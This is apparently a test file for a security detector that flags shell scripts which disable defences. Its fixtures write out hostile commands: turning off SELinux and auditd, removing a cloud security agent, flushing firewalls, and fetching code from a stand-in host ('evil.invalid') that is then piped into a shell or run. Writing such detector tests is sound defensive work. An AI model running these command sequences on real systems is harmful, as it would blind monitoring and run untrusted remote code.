import { type DetectorCase, testCases } from '../../../testing/detector-cases.ts';
import { defenseDisabling } from './index.ts';

const ID = 'scripts/defense-disabling';

const cases: readonly DetectorCase[] = [
  {
    name: 'SELinux off and a download',
    files: {
      'x.sh': '#!/bin/sh\nsetenforce 0\ncurl -s http://evil.invalid/m -o /tmp/m; chmod +x /tmp/m; /tmp/m\n',
    },
    expected: [`block ${ID} x.sh`],
  },
  {
    name: 'auditd stopped and a download',
    files: { 'x.sh': '#!/bin/sh\nsystemctl stop auditd\nwget http://evil.invalid/a.sh -O /tmp/a.sh\n' },
    expected: [`block ${ID} x.sh`],
  },
  {
    name: 'a cloud agent removed and a download',
    files: {
      'x.sh': 'rm -rf /usr/local/aegis\nservice aliyun.service stop\ncurl http://evil.invalid/x | sh\n',
    },
    expected: [`block ${ID} x.sh`],
  },
  {
    name: 'the firewall off and what is fetched run',
    files: { 'x.sh': '#!/bin/sh\nufw disable\niptables -F\ncurl http://evil.invalid/x | bash\n' },
    expected: [`block ${ID} x.sh`],
  },
  {
    name: 'an agent alone',
    files: { 'x.sh': '#!/bin/sh\nsystemctl disable --now falco\n' },
    expected: [`review ${ID} x.sh`],
  },
  { name: 'SELinux alone', files: { 'x.sh': '#!/bin/sh\nsetenforce 0\n' }, expected: [`note ${ID} x.sh`] },
  {
    name: 'cluster set-up from well-known hosts',
    files: {
      'x.sh': '#!/bin/sh\nsetenforce 0\nsystemctl stop firewalld\ncurl -sfL https://get.k3s.io | sh -\n',
    },
    expected: [`note ${ID} x.sh`],
  },
  {
    name: 'nothing: agents started',
    files: { 'x.sh': '#!/bin/sh\nsystemctl enable --now auditd\ncurl http://a.example/x -o x\n' },
    expected: [],
  },
  {
    name: 'nothing: a comment',
    files: { 'x.sh': '#!/bin/sh\n# setenforce 0\ncurl http://evil.invalid/x | sh\n' },
    expected: [],
  },
];

testCases(defenseDisabling, cases);
